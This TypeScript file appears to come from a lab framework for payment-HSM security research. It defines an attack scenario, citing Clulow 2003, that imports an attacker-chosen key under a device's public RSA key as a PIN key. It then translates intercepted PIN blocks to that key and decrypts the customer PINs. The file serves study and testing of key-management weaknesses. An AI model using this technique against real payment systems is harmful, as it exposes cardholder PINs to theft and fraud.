/**
 * Anybody can encipher under a public key. A PIN key of the attacker's own enters that way, PIN blocks
 * are translated to it as to another bank's, and every PIN is readable.
 */
import { constants, publicEncrypt } from 'node:crypto';
import { adjustOddParity, DesKey } from '@pinfold/crypto';
import { decryptPinBlock } from '@pinfold/pin';
import { attack } from '../attack.js';
import { publicKeyPem } from '../rsa/public-key.js';

export const rsaKnownKey = attack({
  name: 'rsa-known-key',
  title: "a PIN key of the attacker's own enters under the device's public RSA key",
  source: 'Clulow 2003 (PKCS#11 trojan wrapped key); PCI PIN Security Requirements, annex A',
  roles: ['production'],
  insider: ['keyManager', 'production'],
  async run({ lab, attacker, say }) {
    const bits = lab.rsaBits;
    const { rsaKey, publicKey } = lab.honest('keyManager', 'GenerateRsaKey', {
      bits,
      usage: 'unwrap',
    });
    const pvk = lab.key('P', { usage: 'PGK' });
    const zpk = lab.pinKey();
    const { pan } = lab.customer(1, { pvk, tableId: lab.table() });
    const pinBlock = lab.typed({ pin: lab.exposePin(pan), pan, key: zpk });
    const own = adjustOddParity(lab.random(16));
    const padding = constants.RSA_PKCS1_OAEP_PADDING;
    const wire = publicEncrypt({ key: publicKeyPem(publicKey), padding, oaepHash: 'sha256' }, own);
    const known = await attacker.call('RsaUnwrapKey', {
      rsaKey,
      padding: 'oaep',
      data: Uint8Array.from(wire),
      usage: 'ZPK',
    });
    say("RsaUnwrapKey takes the attacker's key as another bank's PIN key");
    const to = { key: known.key, format: 'iso0' as const };
    const from = { key: zpk, format: 'iso0' as const };
    const moved = await attacker.call('TranslatePinBlock', { pinBlock, pan, from, to });
    say('TranslatePinBlock of an intercepted PIN block to it');
    const format = 'iso0' as const;
    const read = decryptPinBlock({ format, key: DesKey.of(own), block: moved.pinBlock, pan });
    const pin = read.ok ? read.value : attacker.nothingLearnt();
    return { obtained: `the PIN ${pin}`, verified: pin === lab.exposePin(pan) };
  },
});
